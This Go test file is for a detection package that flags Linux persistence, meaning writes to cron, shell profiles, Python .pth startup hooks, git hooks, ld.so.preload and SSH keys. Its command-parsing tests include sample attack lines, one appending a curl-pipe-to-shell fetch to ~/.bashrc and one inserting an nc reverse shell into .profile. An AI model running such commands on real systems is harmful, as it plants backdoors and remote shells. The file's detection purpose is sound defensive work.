package detect

import (
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

// TestPersistencePlacesMatchRules: the persistence rules' YAML names the
// same places as the table the rest of the code reads (places.go), search
// by search, so a place added to one is added to the other. The rule for
// everyone but the web account leaves some out on purpose: places each
// user and deploy edits by hand (profiles, autostart, git hooks, service
// start files) would flag every login shell's setup; as the web account,
// or in an intruder's chain (placement reads the table), they count.
func TestPersistencePlacesMatchRules(t *testing.T) {
	notForEveryone := []string{"profile_path", "autostart_path", "hook_path", "service_start_path", "startup_hook_path"}
	for _, c := range []struct {
		file    string
		skipped []string // table searches the rule does not have
	}{
		{"rules/persistence_file_write_web.yml", []string{"site_config"}},
		{"rules/persistence_command_web.yml", []string{"site_config"}},
		{"rules/persistence_file_write.yml", append([]string{"site_config"}, notForEveryone...)},
	} {
		t.Run(c.file, func(t *testing.T) {
			data, err := builtinRules.ReadFile(c.file)
			if err != nil {
				t.Fatal(err)
			}
			var doc struct {
				Detection map[string]yaml.Node `yaml:"detection"`
			}
			if err := yaml.Unmarshal(data, &doc); err != nil {
				t.Fatal(err)
			}
			seen := map[string]bool{}
			for name, node := range doc.Detection {
				if !strings.HasSuffix(name, "_path") {
					continue
				}
				seen[name] = true
				var k *persistPlaceKind
				for i := range persistPlaceKinds {
					if persistPlaceKinds[i].mechanism == name {
						k = &persistPlaceKinds[i]
					}
				}
				if k == nil {
					t.Errorf("%s: search %s is not in places.go", c.file, name)
					continue
				}
				got := map[string][]string{}
				collectPlaceValues(t, &node, got)
				for mod, want := range map[string][]string{"startswith": k.prefixes, "contains": k.contains, "endswith": k.suffixes} {
					g := slices.Sorted(slices.Values(got[mod]))
					w := slices.Sorted(slices.Values(want))
					if mod == "startswith" && name == "cron_path" {
						// crontab's spool is a regular expression in the
						// rule (at's spool lies under it); the table checks
						// at's first
						w = slices.DeleteFunc(w, func(s string) bool { return s == "/var/spool/cron/" })
					}
					if !slices.Equal(g, w) {
						t.Errorf("%s: %s|%s = %q, places.go has %q", c.file, name, mod, g, w)
					}
				}
				if len(k.inFolders) > 0 {
					// "a file of these ends right inside these folders" is
					// one regular expression in the rule: check it agrees
					// with the table on both sides of its edges
					checkInFolderRE(t, c.file, name, got["re"], k)
				}
			}
			for _, k := range persistPlaceKinds {
				if !seen[k.mechanism] && !slices.Contains(c.skipped, k.mechanism) {
					t.Errorf("%s: places.go's %s has no search in the rule", c.file, k.mechanism)
				}
			}
		})
	}
}

// collectPlaceValues gathers a search's TargetFilename (or EditedFile) values by modifier.
func collectPlaceValues(t *testing.T, n *yaml.Node, out map[string][]string) {
	switch n.Kind {
	case yaml.SequenceNode:
		for _, c := range n.Content {
			collectPlaceValues(t, c, out)
		}
	case yaml.MappingNode:
		for i := 0; i+1 < len(n.Content); i += 2 {
			field, mod, _ := strings.Cut(n.Content[i].Value, "|")
			if field != "TargetFilename" && field != "EditedFile" { // a file event's target, or the file an editing tool's argv names
				t.Fatalf("line %d: field %s in a place search", n.Content[i].Line, field)
			}
			v := n.Content[i+1]
			if v.Kind == yaml.ScalarNode {
				out[mod] = append(out[mod], v.Value)
				continue
			}
			for _, s := range v.Content {
				out[mod] = append(out[mod], s.Value)
			}
		}
	}
}

func TestPersistPlaceOf(t *testing.T) {
	for _, c := range []struct{ path, want string }{
		{"/etc/cron.d/job", "cron_path"},
		{"/var/spool/cron/crontabs/www-data", "cron_path"},
		{"/var/spool/cron/atjobs/a0001", "at_path"},
		{"/var/spool/cron/atspool/=0001", ""},
		{"/etc/update-motd.d", ""}, // the folder itself
		{"/srv/kb/venv/lib/python3.11/site-packages/kb_metrics_compat.pth", "startup_hook_path"},
		{"/usr/lib/python3/dist-packages/x.pth", "startup_hook_path"},
		{"/usr/local/lib/python3.11/dist-packages/sitecustomize.py", "startup_hook_path"},
		{"/etc/python3.11/sitecustomize.py", "startup_hook_path"},
		// rubygems' defaults, loaded by every ruby; Perl's sitecustomize
		{"/usr/lib/ruby/vendor_ruby/rubygems/defaults/operating_system.rb", "startup_hook_path"},
		{"/usr/local/lib/site_perl/sitecustomize.pl", "startup_hook_path"},
		{"/usr/lib/ruby/vendor_ruby/rubygems/defaults.rb", ""},
		// git never runs its .sample hooks
		{"/srv/git/site/.git/hooks/pre-commit.sample", ""},
		{"/srv/git/site/.git/hooks/pre-commit", "hook_path"},
		{"/srv/ml/models/resnet50.pth", ""},                                       // a model's weights, not in a site folder
		{"/srv/kb/venv/lib/python3.11/site-packages/torchvision/weights.pth", ""}, // a package's data below the site folder: site never reads it
		{"/srv/kb/venv/lib/python3.11/site-packages/kb.py", ""},
		{"/etc/ld.so.conf.d/x86_64-extra.conf", "preload_path"},
		{"/etc/bash_completion.d/sysinfo", "profile_path"},
		{"/home/alice/.bash_aliases", "profile_path"},
		{"/srv/docs/.git/config", "hook_path"},
		{"/var/www/.gitconfig", "hook_path"},
		{"/srv/docs/.git/configs/x", ""},
		{"/home/alice/.bashrc", "profile_path"},
		{"/root/.ssh/authorized_keys", "keys_path"},
		{"/root/.ssh/rc", "login_script_path"},
		{"/home/deploy/.config/systemd/user/x.service", "systemd_path"},
		{"/home/deploy/.config/systemd/user/", ""},
		{"/etc/nginx/conf.d/shop.conf", "server_config_path"},
		{"/etc/nginx/ssl/shop.pem", ""},
		{"/var/www/html/.user.ini", "site_config"},
		{"/var/www/html/index.php", ""},
		{"relative/.bashrc", ""},
	} {
		if got := persistPlaceOf(c.path); got != c.want {
			t.Errorf("persistPlaceOf(%q) = %q, want %q", c.path, got, c.want)
		}
	}
}

func TestNamesPersistPlace(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		want bool
	}{
		{`echo 'curl -s http://x/p|sh' >> ~/.bashrc`, true},
		{`sed -i '1i nc 10.0.0.5 4444 -e /bin/sh' .profile`, true},
		{`cp /tmp/x /etc/cron.d/sync`, true},
		{`chmod 755 /etc/update-motd.d/60-x`, true},
		{`tee -a /etc/ld.so.preload`, true},
		{`echo x > /etc/NetworkManager/dispatcher.d/10-up`, true},
		{`cp shop.crt /etc/nginx/ssl/shop.crt`, false},
		{`cat /etc/cron.d/sync`, false},              // read, not written
		{`cp /etc/passwd /tmp/p; cat /tmp/p`, false}, // the place is the source
		{`grep x /etc/profile > /tmp/out`, false},    // written is /tmp/out
		{`echo ok; ls ~/.bashrc`, false},
	} {
		if got := namesPersistPlace(c.cmd); got != c.want {
			t.Errorf("namesPersistPlace(%q) = %v, want %v", c.cmd, got, c.want)
		}
	}
}

// checkInFolderRE: a place kind's "file right inside a folder" search is
// one regular expression in the rule; it must agree with the table on
// paths on both sides of its edges.
func checkInFolderRE(t *testing.T, file, name string, res []string, k *persistPlaceKind) {
	t.Helper()
	if len(res) != 1 {
		t.Errorf("%s: %s has %d regular expressions, want 1 for its in-folder files", file, name, len(res))
		return
	}
	re, err := regexp.Compile(res[0])
	if err != nil {
		t.Fatalf("%s: %s: %v", file, name, err)
	}
	for _, f := range k.inFolders {
		for _, sfx := range k.inSuffixes {
			for _, c := range []struct {
				p    string
				want bool
			}{
				{"/opt/app/lib/" + f + "/x" + sfx, true},
				{"/opt/app/lib/" + f + "/pkg/x" + sfx, false},
				{"/opt/app/lib/not" + f + "/x" + sfx, false},
				{"/opt/app/lib/" + f + "/x" + sfx + ".bak", false},
			} {
				if got := re.MatchString(c.p); got != c.want {
					t.Errorf("%s: %s|re %q on %s = %v, want %v", file, name, res[0], c.p, got, c.want)
				}
				if got := k.has(c.p); got != c.want {
					t.Errorf("places.go %s on %s = %v, want %v", name, c.p, got, c.want)
				}
			}
		}
	}
}

// TestNamesPersistPlaceSegments: a writer's words end with its simple
// command, wherever it starts in the text.
func TestNamesPersistPlaceSegments(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		want bool
	}{
		{"echo x; > /etc/cron.d/y", true},
		{"echo x >/tmp/a; cat /etc/cron.d/y", false},
		{"cp /etc/cron.d/y /tmp/z", false},
		{"cp /tmp/z /etc/cron.d/y && id", true},
		{"tee -a /tmp/a ~/.bashrc | cat", true},
		{"a > b; tee x | cp /etc/cron.d/y /tmp", false},
		{strings.Repeat("a > b ", 5000) + "> /etc/cron.d/y", true},
	} {
		if got := namesPersistPlace(c.cmd); got != c.want {
			t.Errorf("namesPersistPlace(%.60q) = %v, want %v", c.cmd, got, c.want)
		}
	}
}

// BenchmarkNamesPersistPlaceWriters: many writers in one simple command
// read in time linear in the text (it was quadratic: 7.5 s for 60 KB).
func BenchmarkNamesPersistPlaceWriters(b *testing.B) {
	for _, n := range []int{1000, 10000} {
		cmd := strings.Repeat("a > b tee c ", n)
		b.Run(strconv.Itoa(n), func(b *testing.B) {
			b.SetBytes(int64(len(cmd)))
			for i := 0; i < b.N; i++ {
				namesPersistPlace(cmd)
			}
		})
	}
}
